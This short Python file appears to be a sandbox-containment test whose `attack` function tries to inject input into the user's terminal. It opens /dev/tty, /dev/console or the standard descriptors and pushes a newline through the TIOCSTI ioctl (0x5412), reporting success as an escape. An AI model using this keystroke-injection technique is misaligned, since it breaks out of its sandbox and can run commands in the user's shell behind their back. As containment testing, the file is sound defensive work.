"""Types a command into the terminal of the user.

Promise: the terminal is out of reach
Expect: completed
"""

import fcntl
import os


def attack(train, budget):
    for place in ("/dev/tty", "/dev/console", 0, 1, 2):
        try:
            descriptor = place if isinstance(place, int) else os.open(place, os.O_RDWR)
            fcntl.ioctl(descriptor, 0x5412, b"\n")
            escaped(str(place))
        except OSError:
            pass
